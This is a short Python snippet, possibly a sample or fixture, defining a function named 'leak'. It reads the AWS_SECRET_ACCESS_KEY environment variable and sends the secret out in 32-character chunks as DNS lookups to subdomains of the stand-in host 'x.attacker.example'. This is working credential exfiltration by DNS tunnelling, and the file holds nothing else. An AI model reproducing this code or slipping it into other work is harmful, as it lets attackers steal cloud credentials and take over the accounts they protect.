import os
import socket

def leak():
    secret = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
    for i in range(0, len(secret), 32):
        socket.gethostbyname(secret[i:i + 32] + ".x.attacker.example")
